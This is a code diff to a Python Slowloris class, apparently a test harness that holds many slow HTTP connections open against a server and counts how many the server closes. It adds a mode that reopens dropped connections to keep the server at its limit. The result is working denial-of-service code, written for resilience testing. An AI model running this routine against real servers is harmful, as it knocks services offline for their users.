@@ -99,28 +99,45 @@ class Slowloris:
     port: int
     count: int
     tls: ssl.SSLContext | None = None
+    sustain: bool = False
+    reopened: int = 0
     sockets: list[socket.socket] = field(default_factory=list)
     _stop: threading.Event = field(default_factory=threading.Event)
 
     def open(self) -> None:
         for _ in range(self.count):
-            raw = socket.create_connection((self.host, self.port), timeout=10)
-            sock = self.tls.wrap_socket(raw, server_hostname="localhost") if self.tls else raw
-            sock.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
-            self.sockets.append(sock)
+            self.sockets.append(self._connect(timeout=10))
         threading.Thread(target=self._trickle, daemon=True).start()
 
+    def _connect(self, timeout: float) -> socket.socket:
+        raw = socket.create_connection((self.host, self.port), timeout=timeout)
+        sock = self.tls.wrap_socket(raw, server_hostname="localhost") if self.tls else raw
+        sock.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
+        return sock
+
     def _trickle(self) -> None:
+        """A line a second on every connection; with ``sustain``, a connection the server
+        closed is opened again (as slowloris tools do), so that the server stays at its
+        limit while the logins are tried."""
         while not self._stop.wait(1.0):
-            for sock in self.sockets:
-                with contextlib.suppress(OSError):
+            for i, sock in enumerate(self.sockets):
+                try:
                     sock.send(b"X-Slow: 1\r\n")
+                except OSError:
+                    if self.sustain and not self._stop.is_set():
+                        with contextlib.suppress(OSError):
+                            sock.close()
+                            self.sockets[i] = self._connect(timeout=1)
+                            self.reopened += 1
 
     def closed_by_server(self) -> int:
         """How many of the connections the server has closed (read: EOF or reset)."""
         self._stop.set()
         closed = 0
         for sock in self.sockets:
+            if sock.fileno() == -1:
+                closed += 1  # dropped by the server, and not opened again
+                continue
             sock.settimeout(0.05)
             try:
                 data = sock.recv(1024)
